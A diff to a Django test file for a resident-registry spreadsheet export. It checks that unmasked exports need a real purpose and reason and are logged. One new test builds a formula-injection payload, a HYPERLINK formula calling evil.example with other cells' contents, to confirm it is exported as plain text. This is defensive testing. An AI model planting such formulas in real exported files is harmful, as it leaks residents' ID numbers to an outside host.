@@ -176,17 +176,18 @@ def test_export_masked_by_default_unmasked_needs_reason_and_is_logged(client, tr
     assert not SensitiveAccess.objects.exists()
     resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1"})
     assert resp.status_code == 400 and "事由" in resp.content.decode()
-    resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1", "reason": "报送民政局年度核对"})
+    resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1", "purpose": "核对信息",
+                                           "reason": "报送民政局年度核对"})
     rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows(values_only=True))
     assert rows[1][1] == r.id_number and rows[1][2] == "13812345678"
     log = SensitiveAccess.objects.get()
-    assert log.kind == "export" and log.reason == "报送民政局年度核对" and log.actor == worker
+    assert log.kind == "export" and log.reason == "核对信息：报送民政局年度核对" and log.actor == worker
     street = registry.actor.__class__.objects.create_user("street1", "pw-secret-123")
     from linli.accounts.models import RoleAssignment
 
     RoleAssignment.objects.create(user=street, role=Role.STREET_ADMIN, region=tree.liede, region_path=tree.liede.path)
     client.force_login(street)
-    resp = client.post("/registry/export/", {"region": tree.liede.code, "unmasked": "1", "reason": "想要"})
+    resp = client.post("/registry/export/", {"region": tree.liede.code, "unmasked": "1", "purpose": "核对信息", "reason": "报送民政局核对"})
     assert resp.status_code == 400 and "无权" in resp.content.decode()
     assert SensitiveAccess.objects.count() == 1
     # the exported file imports back (round trip of the layout)
@@ -245,3 +246,41 @@ def test_export_is_capped_with_a_clear_message(client, tree, worker, registry, s
     assert resp.status_code == 400 and "一次最多导出 2 人" in resp.content.decode()
     resp = client.get(f"/api/v1/registry/export.xlsx?region={tree.liede_sq.code}")
     assert resp.status_code == 400 and resp.json()["error"]["code"] == "export_too_large"
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_export_writes_no_formula_whatever_the_names(client, tree, worker, registry, prefix):
+    """A resident, compound, building or household named like a formula exports as plain text,
+    masked or not (an unmasked export must not send other rows' ID numbers anywhere)."""
+    evil = prefix + 'HYPERLINK("http://evil.example/?"&B2&C2,"点此核对")'
+    hh = registry.household(tree.g_liede1, compound=prefix + "苑", building=prefix + "1栋", number=prefix + "101")
+    registry.resident(household=hh, name=evil, phone="13812345678")
+    client.force_login(worker)
+    for form in ({"region": tree.liede_sq.code},
+                 {"region": tree.liede_sq.code, "unmasked": "1", "purpose": "核对信息", "reason": "报送民政局年度核对"}):
+        resp = client.post("/registry/export/", form)
+        assert resp.status_code == 200
+        rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows())
+        data = [c for c in rows[1] if c.value not in (None, "")]
+        assert data, "the row was exported"
+        for cell in data:
+            assert cell.data_type == "s", (cell.coordinate, cell.value)
+            assert not str(cell.value).startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
+        assert rows[1][0].value == "'" + evil
+
+
+def test_unmasked_export_and_reveal_refuse_a_placeholder_reason(client, tree, worker, registry):
+    r = registry.resident(household=registry.household(tree.g_liede1), name="张三", phone="13812345678")
+    client.force_login(worker)
+    for purpose, reason in (("核对信息", "00"), ("", "报送民政局年度核对"), ("核对信息", "1111"), ("其他", "。。。。")):
+        resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1", "purpose": purpose, "reason": reason})
+        assert resp.status_code == 400
+        resp = client.post("/api/v1/registry/export.xlsx", {"region": tree.liede_sq.code, "unmasked": True, "purpose": purpose,
+                                                            "reason": reason}, content_type="application/json")
+        assert resp.status_code == 400 and resp.json()["error"]["code"] == "reason_required"
+        resp = client.post(f"/api/v1/registry/residents/{r.pk}/reveal", {"purpose": purpose, "reason": reason},
+                           content_type="application/json")
+        assert resp.status_code == 400 and resp.json()["error"]["code"] == "reason_required"
+        resp = client.post(f"/registry/residents/{r.pk}/reveal/", {"purpose": purpose, "reason": reason})
+        assert r.id_number not in resp.content.decode()
+    assert not SensitiveAccess.objects.exists()
